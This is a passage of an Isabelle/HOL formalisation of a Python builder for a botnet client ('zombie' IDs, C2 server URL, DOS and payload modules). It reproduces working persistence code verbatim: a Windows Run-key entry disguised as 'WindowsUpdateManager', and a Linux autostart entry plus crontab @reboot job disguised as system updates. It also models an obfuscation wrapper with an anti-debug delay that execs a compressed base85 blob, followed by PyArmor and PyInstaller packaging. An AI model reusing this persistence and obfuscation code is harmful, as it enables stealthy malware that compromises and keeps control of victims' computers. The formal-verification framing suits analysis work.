     (if CHR 0x5C \<notin> set repl then ret (replace_literal 0 pat repl s)
      else (case parse_template strict gref 0 0 repl of
              None \<Rightarrow> raise_exc ReError
            | Some items \<Rightarrow> ret (replace_literal 0 pat (expand [pat] items) s)))"

definition re_strict :: "env \<Rightarrow> bool" where
  "re_strict e =
     (case python_version_tuple e of
        (major, minor, micro) \<Rightarrow> \<not> (major < 3 \<or> (major = 3 \<and> minor < 7)))"

text \<open>Whether \<open>pat\<close> occurs in a text.\<close>

fun contains :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "contains pat [] = (pat = [])"
| "contains pat (c # cs) = (prefix pat (c # cs) \<or> contains pat cs)"

text \<open>
  The import pattern \<^verbatim>\<open>(^.*import.*$\n+)\<close> with \<^verbatim>\<open>re.MULTILINE\<close> and \<^verbatim>\<open>count=1\<close>
  (lines 484-490): the first line that holds \<^verbatim>\<open>import\<close> and ends in a newline, with
  all the newlines that follow it; the replacement \<^verbatim>\<open>\1try:\n ...\<close> puts the import
  block after the match. A text is cut at its newlines; the last piece has no newline
  after it.
\<close>

fun split_lines :: "string \<Rightarrow> string list" where
  "split_lines [] = [[]]"
| "split_lines (c # cs) =
     (if c = CHR 0x0A then [] # split_lines cs
      else (case split_lines cs of l # ls \<Rightarrow> (c # l) # ls | [] \<Rightarrow> [[c]]))"

definition join_lines :: "string list \<Rightarrow> string" where
  "join_lines ls = (case ls of [] \<Rightarrow> [] | l # rest \<Rightarrow> l @ concat (map (\<lambda>x. CHR 0x0A # x) rest))"

fun after_newlines :: "string \<Rightarrow> string list \<Rightarrow> string list" where
  "after_newlines ins [] = []"
| "after_newlines ins [l] = [ins @ l]"
| "after_newlines ins (l # m # ls) =
     (if l = [] then [] # after_newlines ins (m # ls) else (ins @ l) # m # ls)"

fun after_import_line :: "string \<Rightarrow> string list \<Rightarrow> string list" where
  "after_import_line ins [] = []"
| "after_import_line ins [l] = [l]"
| "after_import_line ins (l # m # ls) =
     (if contains ''import'' l then l # after_newlines ins (m # ls)
      else l # after_import_line ins (m # ls))"

definition unlines :: "string list \<Rightarrow> string" where
  "unlines ls = concat (map (\<lambda>l. l @ [CHR 0x0A]) ls)"

definition payload_import_block :: string where
  "payload_import_block =
     unlines [''try:'', ''    import payload_module'', ''except ImportError:'', ''    pass'', []]"

definition sub_payload_import :: "string \<Rightarrow> string" where
  "sub_payload_import s = join_lines (after_import_line payload_import_block (split_lines s))"


section \<open>Source customization\<close>

text \<open>Python's \<^verbatim>\<open>str\<close> of an integer, as the f-strings interpolate it.\<close>

fun str_nat :: "nat \<Rightarrow> string" where
  "str_nat n =
     (if n < 10 then [char_of (48 + n)]
      else str_nat (n div 10) @ [char_of (48 + n mod 10)])"

definition str_int :: "int \<Rightarrow> string" where
  "str_int i = (if i < 0 then CHR ''-'' # str_nat (nat (- i)) else str_nat (nat i))"

text \<open>
  The two texts \<^verbatim>\<open>persistence_code\<close> of \<^verbatim>\<open>_modify_source_code\<close> (lines 458-476 and
  493-542), as the values of the string literals: in the source they are ordinary
  (not raw) triple-quoted strings, so each \<^verbatim>\<open>\\\<close> written there is one backslash
  here.
\<close>

definition windows_persistence_code :: string where
  \<open>windows_persistence_code =
     unlines
     [[],
      ''# Windows persistence mechanism'',
      ''def setup_persistence():'',
      ''    """Setup persistence on Windows"""'',
      ''    try:'',
      ''        import winreg'',
      ''        key_path = r"Software'' @ [CHR 0x5C] @ ''Microsoft'' @ [CHR 0x5C] @ ''Windows'' @ [CHR 0x5C] @ ''CurrentVersion'' @ [CHR 0x5C] @ ''Run"'',
      ''        key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, key_path, 0, winreg.KEY_SET_VALUE)'',
      ''        executable_path = os.path.abspath(sys.executable)'',
      ''        winreg.SetValueEx(key, "WindowsUpdateManager", 0, winreg.REG_SZ, executable_path)'',
      ''        winreg.CloseKey(key)'',
      ''        return True'',
      ''    except Exception as e:'',
      ''        logger.error(f"Persistence error: {str(e)}")'',
      ''        return False'',
      [],
      ''# Call persistence setup'',
      ''setup_persistence()'']\<close>

definition unix_persistence_code :: string where
  \<open>unix_persistence_code =
     unlines
     [[],
      ''# Unix persistence mechanism'',
      ''def setup_persistence():'',
      ''    """Setup persistence on Unix systems"""'',
      ''    try:'',
      ''        home_dir = os.path.expanduser("~")'',
      ''        '',
      ''        # For Linux desktop environments'',
      ''        autostart_dir = os.path.join(home_dir, ".config/autostart")'',
      ''        if os.path.exists(autostart_dir):'',
      ''            os.makedirs(autostart_dir, exist_ok=True)'',
      ''            desktop_file = os.path.join(autostart_dir, "system-update.desktop")'',
      ''            with open(desktop_file, "w") as f:'',
      ''                f.write("""[Desktop Entry]'',
      ''Type=Application'',
      ''Name=System Update Manager'',
      ''Exec={}'',
      ''Hidden=false'',
      ''NoDisplay=false'',
      ''X-GNOME-Autostart-enabled=true'',
      ''""".format(os.path.abspath(sys.executable)))'',
      ''        '',
      ''        # For cron jobs'',
      ''        cron_path = os.path.join(home_dir, ".system-update")'',
      ''        shutil.copy2(sys.executable, cron_path)'',
      ''        os.chmod(cron_path, 0o755)'',
      ''        '',
      ''        # Add to crontab'',
      ''        cron_cmd = f"@reboot {cron_path} > /dev/null 2>&1"'',
      ''        current_crontab = subprocess.check_output(["crontab", "-l"], stderr=subprocess.DEVNULL).decode()'',
      ''        if cron_cmd not in current_crontab:'',
      ''            with tempfile.NamedTemporaryFile(mode='' @ [CHR 0x27] @ ''w'' @ [CHR 0x27] @ '', delete=False) as temp_file:'',
      ''                temp_file.write(current_crontab)'',
      ''                if not current_crontab.endswith('' @ [CHR 0x27] @ [CHR 0x5C] @ ''n'' @ [CHR 0x27] @ ''):'',
      ''                    temp_file.write("'' @ [CHR 0x5C] @ ''n")'',
      ''                temp_file.write(cron_cmd + "'' @ [CHR 0x5C] @ ''n")'',
      ''            subprocess.call(["crontab", temp_file.name])'',
      ''            os.unlink(temp_file.name)'',
      ''        '',
      ''        return True'',
      ''    except Exception as e:'',
      ''        logger.error(f"Persistence error: {str(e)}")'',
      ''        return False'',
      [],
      ''# Call persistence setup with error handling'',
      ''try:'',
      ''    setup_persistence()'',
      ''except:'',
      ''    pass'']\<close>

text \<open>
  The platform block (lines 457-547). The replacement is
  \<^verbatim>\<open>f'{persistence_code}\ndef main():'\<close>.
\<close>

definition inject_persistence :: "env \<Rightarrow> builder \<Rightarrow> string \<Rightarrow> string io" where
  "inject_persistence e b src =
     (if platform b = ''windows''
      then bind (re_sub_literal (re_strict e) (group_ref e) ''def main():''
                   (windows_persistence_code @ CHR 0x0A # ''def main():'') src) (\<lambda>src'.
           bind get_state (\<lambda>s.
             if payload_data s \<noteq> None \<and> payload_data s \<noteq> Some []
             then ret (sub_payload_import src')
             else ret src'))
      else if platform b = ''linux'' \<or> platform b = ''macos''
      then re_sub_literal (re_strict e) (group_ref e) ''def main():''
             (unix_persistence_code @ CHR 0x0A # ''def main():'') src
      else ret src)"

text \<open>\<^verbatim>\<open>_modify_source_code\<close> (lines 411-558).\<close>

definition modify_source_code :: "env \<Rightarrow> builder \<Rightarrow> bool io" where
  \<open>modify_source_code e b =
     seq (logger INFO ''Customizing source code...'')
       (try_except
          (bind (read_text (prep_dir b @ [SOURCE_FILE])) (\<lambda>src0.
           bind (re_sub_literal (re_strict e) (group_ref e)
                   ''SERVER_URL = "http://127.0.0.1:5000"''
                   (''SERVER_URL = "'' @ server_url b @ ''"'') src0) (\<lambda>src1.
           bind (re_sub_literal (re_strict e) (group_ref e)
                   ''ZOMBIE_ID = f"zombie_{uuid.uuid4().hex[:8]}"''
                   (''ZOMBIE_ID = "'' @ ''zombie_'' @ zombie_uuid_hex e @ ''"'') src1) (\<lambda>src2.
           bind (re_sub_literal (re_strict e) (group_ref e)
                   ''CHECK_IN_INTERVAL = 300''
                   (''CHECK_IN_INTERVAL = '' @ str_int (fst (timing_intervals (obfuscation_level b))))
                   src2) (\<lambda>src3.
           bind (re_sub_literal (re_strict e) (group_ref e)
                   ''COMMAND_POLL_INTERVAL = 30''
                   (''COMMAND_POLL_INTERVAL = '' @ str_int (snd (timing_intervals (obfuscation_level b))))
                   src3) (\<lambda>src4.
           bind (inject_persistence e b src4) (\<lambda>src5.
           seq (write_text (modified_source b) src5) (ret True))))))))
          (\<lambda>x. seq (logger ERROR ''Failed to modify source code: '')
                 (seq (logger ERROR traceback) (ret False))))\<close>


section \<open>base85\<close>

text \<open>
  \<^verbatim>\<open>base64.b85encode\<close>: the bytes, padded with zero bytes to a multiple of four, are
  read as big-endian 32-bit words; each word gives five digits in base 85 from
  \<open>b85_alphabet\<close>, and as many characters as bytes were padded are dropped from the
  end. \<^verbatim>\<open>base64.b85decode\<close> pads with \<^verbatim>\<open>~\<close> (digit 84) to a multiple of five, reads
  each five digits back into a word (an error beyond 32 bits or on a character outside
  the alphabet) and drops as many bytes as characters were padded.
\<close>

definition b85_alphabet :: string where
  \<open>b85_alphabet =
     ''0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~''\<close>

fun index_of :: "'a \<Rightarrow> 'a list \<Rightarrow> nat option" where
  "index_of x [] = None"
| "index_of x (y # ys) = (if x = y then Some 0 else map_option Suc (index_of x ys))"

definition b85_word :: "nat \<Rightarrow> string" where
  "b85_word n =
     [b85_alphabet ! (n div 52200625), b85_alphabet ! (n div 614125 mod 85),
      b85_alphabet ! (n div 7225 mod 85), b85_alphabet ! (n div 85 mod 85),
      b85_alphabet ! (n mod 85)]"

definition word_of_bytes :: "char \<Rightarrow> char \<Rightarrow> char \<Rightarrow> char \<Rightarrow> nat" where
  "word_of_bytes a b c d =
     ((of_char a * 256 + of_char b) * 256 + of_char c) * 256 + of_char d"

definition bytes_of_word :: "nat \<Rightarrow> string" where
  "bytes_of_word n =
     [char_of (n div 16777216), char_of (n div 65536 mod 256),
      char_of (n div 256 mod 256), char_of (n mod 256)]"

fun b85encode :: "string \<Rightarrow> string" where
  "b85encode (a # b # c # d # rest) = b85_word (word_of_bytes a b c d) @ b85encode rest"
| "b85encode [a, b, c] = take 4 (b85_word (word_of_bytes a b c (CHR 0x00)))"
| "b85encode [a, b] = take 3 (b85_word (word_of_bytes a b (CHR 0x00) (CHR 0x00)))"
| "b85encode [a] = take 2 (b85_word (word_of_bytes a (CHR 0x00) (CHR 0x00) (CHR 0x00)))"
| "b85encode [] = []"

fun b85_acc :: "nat \<Rightarrow> string \<Rightarrow> nat option" where
  "b85_acc acc [] = Some acc"
| "b85_acc acc (c # cs) =
     (case index_of c b85_alphabet of None \<Rightarrow> None | Some v \<Rightarrow> b85_acc (acc * 85 + v) cs)"

definition b85_hunk :: "string \<Rightarrow> string option" where
  "b85_hunk cs =
     (case b85_acc 0 cs of
        None \<Rightarrow> None
      | Some n \<Rightarrow> if n < 4294967296 then Some (bytes_of_word n) else None)"

fun b85decode :: "string \<Rightarrow> string option" where
  "b85decode (v # w # x # y # z # rest) =
     (case (b85_hunk [v, w, x, y, z], b85decode rest) of
        (Some bs, Some bs') \<Rightarrow> Some (bs @ bs')
      | _ \<Rightarrow> None)"
| "b85decode [v, w, x, y] = map_option (take 3) (b85_hunk [v, w, x, y, CHR ''~''])"
| "b85decode [v, w, x] = map_option (take 2) (b85_hunk [v, w, x, CHR ''~'', CHR ''~''])"
| "b85decode [v, w] = map_option (take 1) (b85_hunk [v, w, CHR ''~'', CHR ''~'', CHR ''~''])"
| "b85decode [v] = map_option (take 0) (b85_hunk [v, CHR ''~'', CHR ''~'', CHR ''~'', CHR ''~''])"
| "b85decode [] = Some []"


section \<open>Environment staging\<close>

text \<open>An \<^verbatim>\<open>os.listdir\<close> evaluated only for a DEBUG record.\<close>

definition listdir_debug :: "path \<Rightarrow> unit io" where
  "listdir_debug d = bind (listdir d) (\<lambda>names. ret ())"

text \<open>
  \<^verbatim>\<open>_create_payload_module\<close> (lines 254-409). The file is opened for writing first,
  which creates or empties it. The text to write is an f-string whose replacement
  fields are evaluated in the builder: \<^verbatim>\<open>{self.payload_data}\<close>, \<^verbatim>\<open>{self.payload_delay}\<close>
  and \<^verbatim>\<open>{self.payload_technique}\<close> have values, but \<^verbatim>\<open>{ps_payload}\<close> (line 332), like
  \<^verbatim>\<open>{task_name}\<close> and \<^verbatim>\<open>{batch_path}\<close> (lines 366-376), is written with single braces
  and names nothing there, so the evaluation raises NameError before anything is
  written. The method catches its own exceptions.
\<close>

definition create_payload_module :: "builder \<Rightarrow> bool io" where
  "create_payload_module b =
     seq (logger INFO ''Creating payload module...'')
       (try_except
          (seq (write_text (payload_module b) [])
             (raise_exc NameError))
          (\<lambda>x. seq (logger ERROR ''Failed to create payload module: '')
                 (seq (logger ERROR traceback) (ret False))))"

text \<open>\<^verbatim>\<open>_prepare_build_environment\<close> (lines 228-252).\<close>

definition prepare_build_environment :: "env \<Rightarrow> builder \<Rightarrow> bool io" where
  "prepare_build_environment e b =
     seq (logger INFO ''Preparing build environment...'')
       (try_except
          (seq (makedirs (build_dir b))
          (seq (makedirs (prep_dir b))
          (seq (makedirs (obfuscate_dir b))
          (seq (makedirs (compile_dir b))
          (seq (makedirs (output_dir b))
          (seq (copy2 (source_file_path b) (prep_dir b @ [SOURCE_FILE]))
          (seq (copy2 (dos_module_path b) (prep_dir b @ [DOS_MODULE_FILE]))
          (seq (listdir_debug (base_dir b))
          (seq (listdir_debug (prep_dir b))
          (bind get_state (\<lambda>s.
             if has_payload b s
             then bind (create_payload_module b) (\<lambda>created. ret True)
             else ret True)))))))))))
          (\<lambda>x. seq (logger ERROR ''Failed to prepare build environment: '')
                 (seq (logger ERROR traceback) (ret False))))"

section \<open>Obfuscation\<close>

text \<open>The wrapper script of \<^verbatim>\<open>_manual_obfuscation\<close> (lines 568-584).\<close>

definition manual_wrapper :: "string \<Rightarrow> string \<Rightarrow> string" where
  \<open>manual_wrapper now blob =
     unlines
       ([''# Obfuscated code - Generated '' @ now,
         ''import base64'',
         ''import zlib'',
         ''import sys'',
         ''import types'',
         ''import time'',
         ''import random'',
         [],
         ''# Anti-debug delay'',
         ''time.sleep(random.uniform(0.1, 0.5))'',
         [],
         ''# Original code (compressed)'',
         ''_z = b"'' @ blob @ ''"'',
         [],
         ''# Decode and execute'',
         ''exec(zlib.decompress(base64.b85decode(_z)).decode('' @ [CHR 0x27] @ ''utf-8'' @ [CHR 0x27] @ ''))''])\<close>

text \<open>
  \<^verbatim>\<open>if self.payload_data and self.platform == 'windows': shutil.copy2(self.payload_module,
  os.path.join(d, os.path.basename(self.payload_module)))\<close>.
\<close>

definition copy_payload_module :: "builder \<Rightarrow> path \<Rightarrow> unit io" where
  "copy_payload_module b d =
     bind get_state (\<lambda>s.
       if has_payload b s then copy2 (payload_module b) (d @ [last (payload_module b)])
       else ret ())"

text \<open>\<^verbatim>\<open>_manual_obfuscation\<close> (lines 560-613).\<close>

definition manual_obfuscation :: "env \<Rightarrow> builder \<Rightarrow> bool io" where
  "manual_obfuscation e b =
     seq (logger INFO ''Performing manual code obfuscation...'')
       (try_except
          (bind (read_text (modified_source b)) (\<lambda>source_code.
           seq (makedirs (obfuscate_dir b))
          (seq (write_text (obfuscated_file b)
                  (manual_wrapper (now_isoformat e) (b85encode (zlib_compress e source_code))))
          (seq (copy2 (prep_dir b @ [DOS_MODULE_FILE]) (obfuscate_dir b @ [DOS_MODULE_FILE]))
          (seq (copy_payload_module b (obfuscate_dir b))
          (seq (logger INFO (''Manual obfuscation completed: '' @ show_path (obfuscated_file b)))
          (bind get_state (\<lambda>s.
             if \<not> path_exists s (obfuscated_file b)
             then seq (logger ERROR
                    (''Failed to create obfuscated file: '' @ show_path (obfuscated_file b)))
                    (ret False)
             else seq (listdir_debug (obfuscate_dir b)) (ret True)))))))))
          (\<lambda>x. seq (logger ERROR ''Manual obfuscation failed: '')
                 (seq (logger ERROR traceback) (ret False))))"

text \<open>
  Running an external tool with \<open>dist\<close> as its output directory: it leaves its files
  (creating the directory when it can, never writing in place of a directory), and the
  call raises or gives the return code.
\<close>

fun tool_files :: "path \<Rightarrow> (string \<times> string) list \<Rightarrow> state \<Rightarrow> state" where
  "tool_files d [] s = s"
| "tool_files d ((n, c) # fs) s =
     tool_files d fs
       (if is_dir s (d @ [n]) then s else s\<lparr>files := AList.update (d @ [n]) c (files s)\<rparr>)"

definition run_tool :: "tool_run \<Rightarrow> path \<Rightarrow> int io" where
  "run_tool t dist =
     (case t of
        Tool_run fs outcome \<Rightarrow>
          (\<lambda>s. (case outcome of Raises x \<Rightarrow> Inl x | Returns rc \<Rightarrow> Inr rc,
                if fs = [] \<or> is_file s dist \<or> dist = [] \<or> \<not> is_dir s (butlast dist) then s
                else tool_files dist fs
                       (if is_dir s dist then s else s\<lparr>dirs := dirs s @ [dist]\<rparr>))))"

text \<open>\<^verbatim>\<open>for file in names: if os.path.isfile(src/file): shutil.copy2(src/file, dst/file)\<close>.\<close>

fun copy_files_in :: "path \<Rightarrow> path \<Rightarrow> string list \<Rightarrow> unit io" where
  "copy_files_in src dst [] = ret ()"
| "copy_files_in src dst (n # ns) =
     seq (bind get_state (\<lambda>s.
            if is_file s (src @ [n]) then copy2 (src @ [n]) (dst @ [n]) else ret ()))
       (copy_files_in src dst ns)"

definition pyarmor_work_dir :: "builder \<Rightarrow> path" where
  "pyarmor_work_dir b = build_dir b @ [''pyarmor_work'']"

text \<open>
  The inner \<^verbatim>\<open>try\<close> block of \<^verbatim>\<open>_try_pyarmor_obfuscation\<close> (lines 656-708), run with the
  work directory as working directory, in two parts. First its end (lines 681-708):
  collecting the tool's output into the obfuscation directory.
\<close>

definition pyarmor_collect :: "builder \<Rightarrow> bool io" where
  "pyarmor_collect b =
     seq (copy2 (pyarmor_work_dir b @ [''dist'', last (modified_source b)]) (obfuscated_file b))
    (bind (listdir (pyarmor_work_dir b @ [''dist''])) (\<lambda>names.
     seq (copy_files_in (pyarmor_work_dir b @ [''dist'']) (obfuscate_dir b) names)
    (seq (bind get_state (\<lambda>t.
            if path_exists t (pyarmor_work_dir b @ [''dist'', DOS_MODULE_FILE])
            then copy2 (pyarmor_work_dir b @ [''dist'', DOS_MODULE_FILE])
                   (obfuscate_dir b @ [DOS_MODULE_FILE])
            else copy2 (prep_dir b @ [DOS_MODULE_FILE]) (obfuscate_dir b @ [DOS_MODULE_FILE])))
    (seq (bind get_state (\<lambda>t.
            if has_payload b t
            then (if path_exists t (pyarmor_work_dir b @ [''dist'', last (payload_module b)])
                  then copy2 (pyarmor_work_dir b @ [''dist'', last (payload_module b)])
                         (obfuscate_dir b @ [last (payload_module b)])
                  else copy2 (payload_module b) (obfuscate_dir b @ [last (payload_module b)]))
            else ret ()))
    (seq (logger INFO (''PyArmor obfuscation successful: '' @ show_path (obfuscated_file b)))
    (seq (listdir_debug (obfuscate_dir b)) (ret True)))))))"

text \<open>
  Its beginning (lines 656-679). The relative name \<^verbatim>\<open>dist\<close> is taken from the work
  directory, which \<^verbatim>\<open>os.chdir\<close> has just made the working directory.
  \<^verbatim>\<open>subprocess.run(..., check=True)\<close> raises CalledProcessError on a non-zero return
  code. The option list chosen by level (lines 635-640) only reaches the tool, whose
  outcome is the environment's.
\<close>

definition pyarmor_in_work_dir :: "env \<Rightarrow> builder \<Rightarrow> bool io" where
  "pyarmor_in_work_dir e b =
     seq (makedirs (pyarmor_work_dir b @ [''dist'']))
    (bind (run_tool (pyarmor_run e) (pyarmor_work_dir b @ [''dist''])) (\<lambda>rc.
     if rc \<noteq> 0 then raise_exc CalledProcessError
     else
       bind get_state (\<lambda>s.
         if \<not> path_exists s (pyarmor_work_dir b @ [''dist''])
         then seq (logger ERROR (''PyArmor did not create expected dist directory: '' @
                     show_path (pyarmor_work_dir b @ [''dist''])))
                (ret False)
         else
           seq (listdir_debug (pyarmor_work_dir b @ [''dist'']))
          (seq (makedirs (obfuscate_dir b))
          (bind get_state (\<lambda>s'.
             if \<not> path_exists s' (pyarmor_work_dir b @ [''dist'', last (modified_source b)])
             then seq (logger ERROR (''PyArmor did not create expected output file: '' @
                         show_path (pyarmor_work_dir b @ [''dist'', last (modified_source b)])))
                 (seq (listdir_debug (pyarmor_work_dir b @ [''dist'']))
                 (seq (logger ERROR ''Files in dist directory: '') (ret False)))
             else pyarmor_collect b))))))"

text \<open>The exception handlers of \<^verbatim>\<open>_try_pyarmor_obfuscation\<close> (lines 713-723).\<close>

definition pyarmor_failed :: "env \<Rightarrow> exn \<Rightarrow> bool io" where
  "pyarmor_failed e x =
     (if x = CalledProcessError
      then seq (logger ERROR ''PyArmor obfuscation failed: '')
          (seq (if pyarmor_stdout e \<noteq> []
                then logger ERROR (''PyArmor stdout: '' @ pyarmor_stdout e) else ret ())
          (seq (if pyarmor_stderr e \<noteq> []
                then logger ERROR (''PyArmor stderr: '' @ pyarmor_stderr e) else ret ())
             (ret False)))
      else seq (logger ERROR ''PyArmor obfuscation failed: '')
             (seq (logger ERROR traceback) (ret False)))"

text \<open>\<^verbatim>\<open>_try_pyarmor_obfuscation\<close> (lines 633-723).\<close>

definition try_pyarmor_obfuscation :: "env \<Rightarrow> builder \<Rightarrow> bool io" where
  "try_pyarmor_obfuscation e b =
     try_except
       (seq (makedirs (pyarmor_work_dir b))
       (seq (copy2 (modified_source b) (pyarmor_work_dir b @ [last (modified_source b)]))
       (seq (copy2 (prep_dir b @ [DOS_MODULE_FILE]) (pyarmor_work_dir b @ [DOS_MODULE_FILE]))
       (seq (copy_payload_module b (pyarmor_work_dir b))
       (bind getcwd (\<lambda>original_dir.
        seq (chdir (pyarmor_work_dir b))
          (try_finally (pyarmor_in_work_dir e b) (chdir original_dir))))))))
       (pyarmor_failed e)"

text \<open>\<^verbatim>\<open>_obfuscate_code\<close> (lines 615-631).\<close>

definition obfuscate_code :: "env \<Rightarrow> builder \<Rightarrow> bool io" where
  "obfuscate_code e b =
     seq (logger INFO (''Obfuscating code with '' @ obfuscation_level b @ '' protection level...''))
       (try_except
          (bind (try_pyarmor_obfuscation e b) (\<lambda>success.
             if \<not> success
             then seq (logger WARNING
                    ''PyArmor obfuscation failed, falling back to manual obfuscation'')
                    (manual_obfuscation e b)
             else ret success))
          (\<lambda>x. seq (logger ERROR ''Obfuscation failed: '')
                (seq (logger ERROR traceback)
                (seq (logger WARNING ''Attempting manual obfuscation as fallback'')
                   (manual_obfuscation e b)))))"


section \<open>Compilation\<close>

text \<open>The list \<^verbatim>\<open>files_to_check\<close> of \<^verbatim>\<open>_compile_executable\<close> (lines 730-740).\<close>

definition files_to_check :: "builder \<Rightarrow> state \<Rightarrow> path list" where
  "files_to_check b s =
     [obfuscated_file b, obfuscate_dir b @ [DOS_MODULE_FILE]] @
     (if has_payload b s then [obfuscate_dir b @ [last (payload_module b)]] else [])"

text \<open>
  The first loop (lines 742-746): \<open>False\<close> at the first missing file, after two ERROR
  records (the second lists the file's directory), \<open>True\<close> when none is missing.
\<close>

fun check_required :: "path list \<Rightarrow> bool io" where
  "check_required [] = ret True"
| "check_required (p # ps) =
     bind get_state (\<lambda>s.
       if \<not> path_exists s p
       then seq (logger ERROR (''Required file missing: '' @ show_path p))
           (seq (listdir_debug (butlast p))
           (seq (logger ERROR ''Directory contents: '') (ret False)))
       else check_required ps)"

text \<open>The second loop (lines 751-752).\<close>

fun copy_required :: "path list \<Rightarrow> path \<Rightarrow> unit io" where
  "copy_required [] d = ret ()"
| "copy_required (p # ps) d = seq (copy2 p (d @ [last p])) (copy_required ps d)"

text \<open>
  \<^verbatim>\<open>_generate_spec_file\<close> (lines 822-925). The descriptor's text is the environment's
  \<open>spec_text\<close> of the builder, the UPX flag, whether a payload is bundled, and the
  listing of the compilation directory; no claim depends on it.
\<close>

definition generate_spec_file :: "env \<Rightarrow> builder \<Rightarrow> string io" where
  "generate_spec_file e b =
     seq (logger INFO ''Generating PyInstaller spec file...'')
       (bind (listdir (compile_dir b)) (\<lambda>file_list.
        bind get_state (\<lambda>s. ret (spec_text e b (use_upx s) (has_payload b s) file_list))))"

fun log_lines :: "string list \<Rightarrow> unit io" where
  "log_lines [] = ret ()"
| "log_lines (l # ls) = seq (logger ERROR (''  '' @ l)) (log_lines ls)"

text \<open>
  The inner \<^verbatim>\<open>try\<close> block (lines 768-812), run with the compilation directory as
  working directory: \<^verbatim>\<open>'.'\<close> and the packager's \<^verbatim>\<open>dist\<close> are taken from it.
  \<^verbatim>\<open>subprocess.Popen\<close> raises when the packager cannot be started.
\<close>

definition pyinstaller_in_compile_dir :: "env \<Rightarrow> builder \<Rightarrow> bool io" where
  "pyinstaller_in_compile_dir e b =
     seq (listdir_debug (compile_dir b))
    (bind (run_tool (pyinstaller_run e) (compile_dir b @ [''dist''])) (\<lambda>rc.
     if rc \<noteq> 0
     then seq (logger ERROR (''PyInstaller failed with return code '' @ str_int rc))
         (seq (logger ERROR ''PyInstaller output:'')
         (seq (log_lines (pyinstaller_lines e)) (ret False)))
     else
       bind get_state (\<lambda>s.
         if \<not> path_exists s (compile_dir b @ [''dist'', executable_name b])
         then seq (logger ERROR (''PyInstaller failed to create executable: '' @
                     show_path (compile_dir b @ [''dist'', executable_name b])))
             (seq (if path_exists s (compile_dir b @ [''dist''])
                   then listdir_debug (compile_dir b @ [''dist'']) else ret ())
             (seq (logger ERROR (''Contents of '' @ show_path (compile_dir b @ [''dist'']) @ '': ''))
                (ret False)))
         else
           seq (makedirs (output_dir b))
          (seq (copy2 (compile_dir b @ [''dist'', executable_name b]) (final_executable b))
          (seq (logger INFO (''Executable compiled successfully: '' @
                  show_path (final_executable b)))
             (ret True))))))"

text \<open>\<^verbatim>\<open>_compile_executable\<close> (lines 725-820).\<close>

definition compile_executable :: "env \<Rightarrow> builder \<Rightarrow> bool io" where
  "compile_executable e b =
     seq (logger INFO (''Compiling executable for '' @ platform b @ '' platform...''))
       (try_except
          (bind get_state (\<lambda>s.
           bind (check_required (files_to_check b s)) (\<lambda>present.
             if \<not> present then ret False
             else
               seq (rmtree_ignore_errors (compile_dir b))
              (seq (makedirs (compile_dir b))
              (seq (copy_required (files_to_check b s) (compile_dir b))
              (bind (listdir (obfuscate_dir b)) (\<lambda>names.
               seq (copy_files_in (obfuscate_dir b) (compile_dir b) names)
              (bind (generate_spec_file e b) (\<lambda>spec_content.
               seq (write_text (compile_dir b @ [build_id b @ ''.spec'']) spec_content)
              (bind getcwd (\<lambda>original_dir.
               seq (chdir (compile_dir b))
                 (try_finally (pyinstaller_in_compile_dir e b) (chdir original_dir)))))))))))))
          (\<lambda>x. seq (logger ERROR ''Compilation failed: '')
                 (seq (logger ERROR traceback) (ret False))))"

section \<open>Cleanup\<close>

text \<open>The loop over the descriptor files (lines 936-940): a failing removal is passed over.\<close>

fun remove_specs :: "path \<Rightarrow> string list \<Rightarrow> unit io" where
  "remove_specs c [] = ret ()"
| "remove_specs c (f # fs) =
     seq (try_except (remove_file (c @ [f])) (\<lambda>x. ret ())) (remove_specs c fs)"

text \<open>
  \<^verbatim>\<open>_clean_up\<close> (lines 927-953). The relative paths \<^verbatim>\<open>'.'\<close>, \<^verbatim>\<open>'build'\<close> and the
  descriptor names are taken from the working directory; below a working directory that
  has been removed nothing exists.
\<close>

definition clean_up :: "builder \<Rightarrow> bool io" where
  "clean_up b =
     seq (logger INFO ''Cleaning up build artifacts...'')
       (try_except
          (seq (if \<not> debug b
                then seq (rmtree_ignore_errors (build_dir b))
                    (bind listdir_cwd (\<lambda>names.
                     bind get_state (\<lambda>s0.
                     seq (remove_specs (cwd s0) (filter (\<lambda>f. suffix ''.spec'' f) names))
                       (bind get_state (\<lambda>s.
                          if is_dir s (cwd s) \<and> path_exists s (cwd s @ [''build''])
                          then rmtree_ignore_errors (cwd s @ [''build''])
                          else ret ())))))
                else ret ())
             (ret True))
          (\<lambda>x. seq (logger ERROR ''Cleanup failed: '')
                 (seq (logger ERROR traceback) (ret True))))"

section \<open>Metadata\<close>

definition is_lower_hex :: "char \<Rightarrow> bool" where
  "is_lower_hex c =
     ((48 \<le> (of_char c :: nat) \<and> (of_char c :: nat) \<le> 57) \<or>
      (97 \<le> (of_char c :: nat) \<and> (of_char c :: nat) \<le> 102))"

text \<open>
  \<^verbatim>\<open>re.search(r'ZOMBIE_ID = "(zombie_[a-f0-9]+)"', text)\<close> and its group 1: at the
  leftmost place where the fixed text is followed by one or more lower-case hexadecimal
  digits and a double quote.
\<close>

definition zombie_id_marker :: string where
  \<open>zombie_id_marker = ''ZOMBIE_ID = "zombie_''\<close>

fun search_zombie_id :: "string \<Rightarrow> string option" where
  \<open>search_zombie_id [] = None\<close>
| \<open>search_zombie_id (c # cs) =
     (if prefix zombie_id_marker (c # cs) \<and>
         takeWhile is_lower_hex (drop (length zombie_id_marker) (c # cs)) \<noteq> [] \<and>
         prefix ''"'' (dropWhile is_lower_hex (drop (length zombie_id_marker) (c # cs)))
      then Some (''zombie_'' @ takeWhile is_lower_hex (drop (length zombie_id_marker) (c # cs)))
      else search_zombie_id cs)\<close>

text \<open>The dictionary built at lines 973-987.\<close>

definition full_metadata :: "env \<Rightarrow> builder \<Rightarrow> string \<Rightarrow> (string \<times> json) list" where
  "full_metadata e b zombie_id =
     [(''build_id'', JString (build_id b)),
      (''timestamp'', JString (build_timestamp b)),
      (''platform'', JString (platform b)),
      (''server_url'', JString (server_url b)),
      (''obfuscation_level'', JString (obfuscation_level b)),
      (''executable'', JString (last (final_executable b))),
      (''zombie_id'', JString zombie_id),
      (''build_system'', JObject
         [(''python_version'', JString (host_python_version e)),
          (''system'', JString (host_system e)),
          (''release'', JString (host_release e)),
          (''machine'', JString (host_machine e))])]"

text \<open>The dictionary returned by the handler (lines 1006-1011).\<close>

definition minimal_metadata :: "builder \<Rightarrow> (string \<times> json) list" where
